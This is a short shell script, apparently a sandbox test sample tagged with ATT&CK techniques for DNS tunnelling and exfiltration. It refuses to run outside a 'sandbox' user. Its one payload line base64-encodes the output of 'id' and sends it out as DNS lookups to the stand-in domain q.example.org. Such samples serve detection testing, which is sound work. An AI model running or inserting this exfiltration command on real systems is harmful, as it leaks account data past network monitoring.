#!/bin/sh
# technique: T1071.004 T1048.003
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

host "$(id | base64 | tr -d '=\n' | cut -c1-50)".q.example.org; dig $(id | base64).q.example.org
